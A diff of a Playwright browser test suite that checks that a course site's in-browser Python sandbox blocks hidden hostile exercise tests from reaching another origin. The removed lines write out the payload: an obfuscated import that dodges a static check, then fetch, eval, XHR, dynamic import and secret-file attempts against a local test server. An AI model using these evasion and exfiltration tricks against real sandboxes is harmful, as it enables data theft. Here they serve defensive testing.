@@ -23,8 +23,7 @@ import pytest
 from playwright.sync_api import expect
 
 from support.course import lesson_md, write
-from support.runnable import SAVED_MEMORY, runnable_course
-from support.serving import Recorder
+from support.runnable import SAVED_MEMORY, OtherOrigin, attempts, held, other_origin, runnable_course
 from support.sites import run_mkdocs
 from support.waits import until
 from tracksite.localserver import QuietHandler, serve_folder
@@ -34,35 +33,11 @@ pytestmark = pytest.mark.browser
 START = 90_000
 
 
-class Other(Recorder):
-    seen: list[str] = []
-
-
 def attack(other: str) -> str:
     """The exercise: harmless code and solution, hostile hidden tests (their imports hidden from
     the static check, as an attacker hides them)."""
-    tests = f"""\
-js = getattr(__import__("builtins"), "__imp" + "ort__")("j" + "s")
-def attempt(name, act):
-    try:
-        act()
-        print(name, "went")
-    except BaseException as e:
-        print(name, "refused", type(e).__name__)
-attempt("fetch", lambda: js.fetch("{other}fetch"))
-attempt("post", lambda: js.fetch("{other}post", js.Object.fromEntries([["method", "POST"]])))
-attempt("eval", lambda: js.eval("fetch('{other}eval'); 1"))
-attempt("function", lambda: js.Function("return fetch('{other}function')")())
-def xhr():
-    x = js.XMLHttpRequest.new()
-    x.open("GET", "{other}xhr", False)
-    x.send()
-attempt("xhr", xhr)
-attempt("outside", lambda: js.fetch("/secret.txt"))
-attempt("import", lambda: js.eval("import('{other}import.js')"))
-attempt("caches", lambda: js.caches.open("tracksite-python"))
-assert x == 2
-"""
+    hidden = 'js = getattr(__import__("builtins"), "__imp" + "ort__")("j" + "s")\n'
+    tests = hidden + attempts(other) + "assert x == 2\n"
     return (
         "/// runnable | Hostile tests\ncode: x = 1\ntests: |\n"
         + "".join(f"  {line}\n" for line in tests.splitlines())
@@ -72,9 +47,7 @@ assert x == 2
 
 @pytest.fixture(scope="module")
 def other(tmp_path_factory):
-    folder = tmp_path_factory.mktemp("other-origin")
-    (folder / "import.js").write_text("fetch(location.origin + '/imported');\n", encoding="utf-8")
-    with serve_folder(folder, Other) as base:
+    with other_origin(tmp_path_factory.mktemp("other-origin")) as base:
         yield base
 
 
@@ -97,12 +70,6 @@ def press_check(frame) -> str:
     expect(block.locator(".ts-run__status")).to_have_text("Passed: every check holds.", timeout=START)
     time.sleep(1.5)  # a request the tests started would have arrived
     return block.locator(".ts-run__checks").text_content() or ""
-
-
-def held(out: str) -> None:
-    assert Other.seen == [], f"requests reached another origin: {Other.seen}\n{out}"
-    for name in ("eval", "function", "xhr", "caches"):
-        assert f"{name} refused" in out, out
 
 
 @pytest.fixture(scope="module")
@@ -140,7 +107,7 @@ def hostile_learner(chromium):
 
 
 def test_hidden_tests_reach_no_other_origin_from_the_built_site(hostile_learner, hosted):
-    Other.seen.clear()
+    OtherOrigin.seen.clear()
     page = hostile_learner.new_page()
     # a new profile's storage, whichever test ran in this context before: the first start is fresh
     cdp = hostile_learner.new_cdp_session(page)
@@ -163,7 +130,7 @@ def test_hidden_tests_reach_no_other_origin_from_the_built_site(hostile_learner,
 def test_hidden_tests_reach_no_other_origin_under_a_header_policy(hostile_learner, hosted):
     """A host that sends the page's policy as a header (and no `<meta>` tag): the worker inherits
     that one too."""
-    Other.seen.clear()
+    OtherOrigin.seen.clear()
     page = hostile_learner.new_page()
     page.goto(hosted + "alpha/a2h/")
     assert page.locator('meta[http-equiv="Content-Security-Policy"]').count() == 0
